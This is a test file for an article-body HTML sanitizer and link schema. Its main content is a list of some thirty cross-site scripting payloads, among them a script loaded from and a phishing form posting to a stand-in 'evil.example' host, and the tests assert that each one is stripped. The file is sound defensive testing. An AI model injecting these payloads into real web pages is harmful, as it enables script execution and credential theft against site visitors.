import { describe, expect, test } from 'vitest'
import { bodySchema, hrefSchema } from '#lib/articles/body/document.ts'
import { fromHtml } from '#lib/articles/body/from-hast.ts'
import { toHtml } from '#lib/articles/body/to-html.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example"><link rel=stylesheet href=x.css>',
  '<style>@import "x.css"; p { background: url(javascript:alert(1)) }</style>',
  '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<div id="fn-1" class="fixed" data-picture-id="x" name="getElementById">x</div>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p><b><i></p><script>alert(1)</b></i></script>',
  '<aside class="pull-quote evil"><img src=x onerror=alert(1)>x</aside>',
]

describe('HTML that means harm is inert', () => {
  test.each(attacks)('%s', (attack) => {
    const { body } = fromHtml(`<p>Before</p>${attack}<p>After</p>`)
    bodySchema.parse(JSON.parse(JSON.stringify(body)))
    const html = toHtml(body, { pictureUrl: () => ({ src: '/pictures/x.webp', width: 1, height: 1 }) })
    expect(html).not.toMatch(
      /<(?:script|style|iframe|object|embed|form|input|svg|math|meta|base|link|video|audio|template)/i,
    )
    expect(html).not.toMatch(/\son\w+=|style=|javascript:|vbscript:|data:|evil\.example|import/i)
    expect(html).toContain('<p>Before</p>')
  })

  test('what was left out is counted', () => {
    const { leftOut } = fromHtml(
      '<script></script><script></script><iframe></iframe><a href="tel:1">t</a><img src="data:x"><a href="#top">up</a>',
    )
    expect(leftOut).toEqual([
      { what: 'script', count: 2 },
      { what: 'iframe', count: 1 },
      { what: 'link by tel:', count: 1 },
      { what: 'picture by data:', count: 1 },
      { what: 'link that leads nowhere', count: 1 },
    ])
  })

  test('nesting without end is refused, not fatal', () => {
    expect(() => fromHtml('<div>'.repeat(200_000))).toThrow('The text is nested too deeply to be read.')
  })
})

describe('a stored document is a closed set', () => {
  const paragraph = (node: object) => ({ type: 'doc', content: [{ type: 'paragraph', content: [node] }] })
  const note = {
    type: 'footnotes',
    content: [{ type: 'footnote', attrs: { id: '1' }, content: [{ type: 'paragraph' }] }],
  }
  test.each([
    ['an unknown node', { type: 'doc', content: [{ type: 'iframe' }] }],
    ['an unknown attribute', { type: 'doc', content: [{ type: 'paragraph', attrs: { onclick: 'x' } }] }],
    ['an unknown mark', paragraph({ type: 'text', text: 'x', marks: [{ type: 'blink' }] })],
    [
      'a link that runs',
      paragraph({ type: 'text', text: 'x', marks: [{ type: 'link', attrs: { href: 'javascript:alert(1)' } }] }),
    ],
    ['a first-level heading', { type: 'doc', content: [{ type: 'heading', attrs: { level: 1 } }] }],
    ['footnotes before the end', { type: 'doc', content: [note, { type: 'paragraph' }] }],
    ['half a character', paragraph({ type: 'text', text: '\ud83d' })],
    ['a NUL', paragraph({ type: 'text', text: 'a\0b' })],
    [
      'a picture without an id',
      { type: 'doc', content: [{ type: 'picture', attrs: { pictureId: 'x', alt: '', caption: '', credit: '' } }] },
    ],
  ])('%s is refused', (_, document) => {
    expect(bodySchema.safeParse(document).success).toBe(false)
  })

  test.each(['https://example.org', 'HTTP://example.org/a?b#c', 'mailto:a@example.org', '/articles/a', '/'])(
    '%s may be linked',
    (href) => {
      expect(hrefSchema.safeParse(href).success).toBe(true)
    },
  )

  test.each([
    '//evil.example',
    '/\\evil.example',
    'https:///x',
    'ftp://x',
    'javascript:x',
    'articles/a',
    '',
    'https://a b',
    ' /x',
    '#top',
  ])('%s may not', (href) => {
    expect(hrefSchema.safeParse(href).success).toBe(false)
  })
})
